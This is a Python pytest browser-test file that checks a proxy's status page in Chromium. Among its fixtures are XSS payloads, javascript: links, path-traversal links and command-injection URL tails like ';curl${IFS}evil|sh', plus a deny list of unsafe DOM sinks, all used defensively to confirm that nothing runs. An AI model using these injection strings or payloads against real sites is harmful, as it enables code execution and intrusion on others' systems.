"""The status page in a real Chromium."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from loadtests.services.chromium import Browser, Page
from lodefs.proxy.http.tokens import create_token
from lodefs.proxy.page.preview_view import PreviewView
from lodefs.proxy.page.previews import Previews
from tests.proxy.page.pages import contrasts, nameless
from tests.support.proxy.fake_node import DictNode, RunningProxy, start_proxy
from tests.support.proxy.rig import REPO, Rig

pytestmark = pytest.mark.browser

SCRIPT = b"<script>document.title = 'owned'; top.owned = 1</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title = 'owned'</script></svg>"
NAMES = [
    b"<img src=x onerror=owned=1>",
    b"\"quotes\" 'and' `more`",
    b"two\nlines",
    "🦜".encode() * 63 + b"abc",  # 255 bytes
    b"not \xff\xfe UTF-8",
    b"%41 + #?&=;",
    b"javascript:owned=1",
    "\u202ertl".encode(),
]
README = b"""# Title

[x](javascript:owned=1) [y](d/e/deep.csv) <img src=x onerror=owned=1> ![z](http://evil.invalid/z.png)
![p](../../../../pixel.gif) [out](http://evil.invalid/) [<b>](%2e%2e/%2e%2e/status)

<script>owned = 1</script>

|a|
|-|
|<b>1</b>|
"""
PIXEL = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
BEFORE = {b"README.md": b"# Title\n", b"gone": b""}
FILES = {
    b"README.md": README,
    b"pixel.gif": PIXEL,
    **{name: b"content of " + name for name in NAMES},
    b"a.html": SCRIPT,
    b"a.svg": SVG,
    b"d/e/deep.csv": b"name,n\n<b>x</b>,1\n",
}
FOLDER = f"#/browse/{REPO}@main/"
VIEWS = {  # and what is there once all is
    "#/": "document.querySelector('.list time')",
    "#/node": "document.querySelector('meter') && document.querySelectorAll('h2').length > 6",
    f"#/repository/{REPO}": "document.querySelector('.list time') && "
    "document.querySelector('.document')",
    FOLDER: "document.querySelector('td time') && document.querySelector('.document')",
    f"#/compare/{REPO}": "document.querySelector('td details')",
    f"{FOLDER}d/e/deep.csv": "document.querySelector('.preview td')",
}


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningProxy]:
    """A proxy over a store with names and contents of all kinds."""
    rig = Rig(tmp_path_factory.mktemp("page"), BEFORE)
    rig.maker.commit(REPO, FILES)
    with start_proxy(rig.node) as running:
        yield running


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A tab of its own."""
    made = browser.page()
    try:
        yield made
    finally:
        made.close()


def opened(page: Page, proxy: RunningProxy, view: str, ready: str = "") -> None:
    """Open a view and wait until it has what it shows."""
    page.go("about:blank")
    page.go(f"{proxy.url}/{view}")
    page.until(ready or VIEWS[view])


def test_every_view_asks_this_proxy_alone(page: Page, proxy: RunningProxy) -> None:
    """All views come with no request to another host, no error in the console, a name for all that
    can be used, enough contrast in both themes, and no wider than a small phone."""
    page.resize(360, 740, is_phone=True)
    for view in VIEWS:
        opened(page, proxy, view)
        assert nameless(page) == []
        assert page.run("document.documentElement.scrollWidth") <= 360
        for scheme in ("light", "dark"):
            page.prefer(scheme)
            assert contrasts(page) == []
    foreign = [one for one in page.requests() if not one.startswith((proxy.url, "about:"))]
    assert foreign == []
    assert [one for one in page.problems() if not one.startswith("verbose")] == []


def test_names_are_text(page: Page, proxy: RunningProxy) -> None:
    """A directory shows every name as it is, and each link leads to its file, whatever its bytes;
    nothing of them runs."""
    opened(page, proxy, FOLDER)
    links = page.run("[...document.querySelectorAll('td a')].map(a => [a.textContent, a.hash])")
    shown = {name.decode("utf-8", "replace"): name for name in NAMES}
    assert {text for text, _ in links} >= set(shown)
    for text, link in links:
        if text in shown:
            page.run(f"location.hash = {json.dumps(link)}")
            page.until(f"document.querySelector('#view h1').textContent === {json.dumps(text)}")
            page.until("document.querySelector('.preview pre')")
            content = FILES[shown[text]].decode("utf-8", "replace")
            assert page.run("document.querySelector('.preview pre').textContent") == content
            assert page.run("typeof owned") == "undefined"
    assert [one for one in page.problems() if not one.startswith("verbose")] == []


def test_a_readme_runs_and_loads_nothing(page: Page, proxy: RunningProxy) -> None:
    """Below the entries, directories first, the README is a document: its links lead to files of
    this version and to web pages, and of other hosts and parts of the proxy nothing is loaded."""
    opened(page, proxy, FOLDER)
    assert page.run("document.querySelector('td a').textContent") == "d/"
    assert page.run("document.querySelector('.document h3').innerText") == "Title"
    assert "[image: z]" in page.run("document.querySelector('.document').innerText")
    links = page.run(
        "[...document.querySelectorAll('.document a')].map(a => a.getAttribute('href'))"
    )
    assert links == [f"{FOLDER}d/e/deep.csv", "http://evil.invalid/", f"{FOLDER}status"]
    page.until("[...document.querySelectorAll('img:not(header *)')].every(a => a.naturalWidth)")
    images = page.run("[...document.querySelectorAll('img:not(header *)')].map(a => a.src)")
    assert images == [f"{proxy.url}/page/image/{REPO}@main/pixel.gif"] * 2  # one is a thumbnail
    assert page.run("document.querySelectorAll('.document :is(script, b, iframe)').length") == 0
    assert page.run("typeof owned") == "undefined"
    assert not [one for one in page.requests() if not one.startswith((proxy.url, "about:"))]


def test_two_versions_line_by_line(page: Page, proxy: RunningProxy) -> None:
    """The last two versions at first; each changed text has its lines, as text."""
    opened(page, proxy, f"#/compare/{REPO}")
    page.run("document.querySelector('td details summary').click()")
    page.until("document.querySelector('.patch .added')")
    shown = page.run("document.querySelector('.patch').innerText")
    assert "+<script>owned = 1</script>" in shown
    page.run("document.querySelector('#view button').click()")  # swaps them
    page.until("document.body.innerText.includes('1 added, 1 changed')")
    assert page.run("typeof owned") == "undefined"


@pytest.mark.parametrize("name", ["a.html", "a.svg"])
def test_contents_never_run(page: Page, proxy: RunningProxy, name: str) -> None:
    """A file of the dataset that holds a script, opened by itself, is shown without running."""
    page.go(f"{proxy.url}/files/{REPO}@main/{name}")
    assert page.run("document.title") != "owned"
    assert page.run("self.origin") == "null"
    assert any("sandboxed" in one for one in page.problems())


def test_finding_and_history(page: Page, proxy: RunningProxy) -> None:
    """The search finds a deep file; the history says what its version added."""
    opened(page, proxy, FOLDER)
    page.run("document.getElementById('find').value = 'DEEP'")
    page.run("document.querySelector('form[role=search]').requestSubmit()")
    page.until("document.body.innerText.includes('d/e/deep.csv')")
    opened(page, proxy, f"#/repository/{REPO}")
    crumbs = page.run("document.querySelector('nav.crumbs').innerText")
    assert crumbs == f"Repositories / {REPO}"  # the last one is the page itself
    page.until("document.querySelector('.list summary')")
    page.run("[...document.querySelectorAll('.list summary')].at(-1).click()")
    page.until(f"document.body.innerText.includes('The first version: {len(BEFORE)} files')")


def test_a_preview_that_took_too_long_can_be_tried_again(
    page: Page, proxy: RunningProxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A busy machine's answer has a button, which asks once more; types stand beside columns."""
    busy = PreviewView("none", "this machine is busy", may_retry=True)
    table = PreviewView("table", columns=["n"], types=["int64"], rows=[["7"]])
    answers = [busy, table]

    async def answer(*_: object) -> PreviewView:
        return answers.pop(0)

    monkeypatch.setattr(Previews, "view", answer)
    opened(page, proxy, f"{FOLDER}d/e/deep.csv", "document.querySelector('.preview button')")
    assert page.run("document.querySelector('.preview').innerText").startswith("this machine is")
    page.run("document.querySelector('.preview button').click()")
    page.until("document.querySelector('.preview td')")
    assert page.run("document.querySelector('.preview th').innerText") == "n (int64)"
    assert page.run("document.querySelector('.preview button')") is None


def test_the_keyboard_is_enough(page: Page, proxy: RunningProxy) -> None:
    """Tab reaches the skip link, the navigation and the theme in order, Enter follows them, and the
    theme that was chosen holds for the next page."""
    opened(page, proxy, "#/")
    reached = []
    for _ in range(5):
        page.press("Tab")
        reached.append(page.run("document.activeElement.innerText.trim()"))
    assert reached[:4] == ["Skip to the content", "lodefs", "Repositories", "Node"]
    page.press("Enter", text="\r")  # the theme: from the system's to light
    assert page.run("document.documentElement.dataset.theme") == "light"
    page.press("Enter", text="\r")
    page.run("document.querySelector('[data-view=node]').focus()")
    page.press("Enter", text="\r")
    page.until("document.activeElement.id === 'main' && document.querySelector('meter')")
    opened(page, proxy, "#/")
    assert page.run("document.documentElement.dataset.theme") == "dark"


def test_the_node_is_shown_live(page: Page, tmp_path: Path) -> None:
    """Reads appear as they happen, in words too; when the proxy ends, the page says so, and it goes
    on when there is one again."""
    node = DictNode({b"a": b"x" * 100_000})
    with start_proxy(node) as proxy:
        opened(page, proxy, "#/node", "document.querySelector('.chart')")
        page.until("document.getElementById('link-state').dataset.state === 'live'")
        before = len(page.events("Network.eventSourceMessageReceived"))

        def count() -> None:
            node.counts.direct(1, 50 << 20, "demo")

        proxy.call(count)
        page.until("document.body.innerText.includes('50.0 MiB')")
        page.until("/^Now mounts/.test(document.querySelector('.chart desc').textContent)")
        assert len(page.events("Network.eventSourceMessageReceived")) > before
    page.until("document.getElementById('link-state').dataset.state === 'lost'")


def test_logging_in_and_out(page: Page, tmp_path: Path) -> None:
    """Without a token there is a login alone; a wrong one is refused in words; a right one stays
    over reloads, where no script sees it; a logout ends it."""
    tokens = tmp_path / "tokens"
    token = create_token(tokens, "reader", ["demo"], now_s=0)
    with start_proxy(DictNode({b"a": b"x"}), tokens_file=tokens) as proxy:
        page.go(f"{proxy.url}/#/")
        page.until("!document.getElementById('login').hidden")
        assert nameless(page) == []
        log_in(page, "lodefs_wrong")
        page.until("document.body.innerText.includes('not known here')")
        log_in(page, token)
        page.until("document.body.innerText.includes('demo')")
        page.go("about:blank")
        page.go(f"{proxy.url}/#/")
        page.until("document.querySelector('.list time')")
        assert page.run("document.cookie") == ""
        page.until("!document.getElementById('logout').hidden")
        page.run("document.getElementById('logout').click()")
        page.until("!document.getElementById('login').hidden")


def log_in(page: Page, token: str) -> None:
    page.run(f"document.getElementById('token').value = {token!r}")
    page.run("document.getElementById('login').requestSubmit()")


def test_a_page_of_elsewhere_gets_nothing(page: Page, proxy: RunningProxy) -> None:
    """A page of another origin reads nothing here, and what it posts is refused."""
    with start_proxy(DictNode({b"evil.html": b"<p>"})) as elsewhere:
        page.go(f"{elsewhere.url}/")
        script = "fetch({url!r}, {{method: {method!r}}}).then(a => a.text(), e => 'refused')"
        read = page.run(script.format(url=f"{proxy.url}/list/{REPO}@main", method="GET"))
        sent = page.run(script.format(url=f"{proxy.url}/page/logout", method="POST"))
    assert (read, sent) == ("refused", "refused")


@pytest.mark.parametrize("view", ["repository", "browse"])
def test_a_link_puts_nothing_into_commands(page: Page, proxy: RunningProxy, view: str) -> None:
    """A link cannot make the page offer commands that hold more than names."""
    shown = "!document.querySelector('#view')?.innerText.includes('Loading')"
    shown += " && document.querySelector('#view h1') !== null"
    codes = "[...document.querySelectorAll('code')].map(one => one.textContent).join(' ')"
    opened(page, proxy, f"#/{view}/{REPO}@main", shown)
    page.until(f"{codes}.includes('lodefs mount {REPO}@main')")
    for tail in ("#;curl${IFS}evil|sh", "?a;curl${IFS}evil|sh", "%0acurl evil"):
        opened(page, proxy, f"#/{view}/{REPO}@main{tail}", shown)
        assert "curl" not in page.run(codes), tail


def test_no_module_writes_markup() -> None:
    """The page's scripts make elements and text, never markup from strings."""
    static = Path(__file__).parents[3] / "proxy" / "page" / "static"
    scripts = list(static.glob("*.js"))
    assert len(scripts) >= 8
    for script in scripts:
        text = script.read_text()
        for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(",
                     "new Function", "DOMParser", "srcdoc", "http://www.", "https://"):  # fmt: skip
            assert word not in text.replace("http://www.w3.org/2000/svg", ""), (script.name, word)
    html = (static / "index.html").read_text()
    assert "style=" not in html
    assert "onclick" not in html
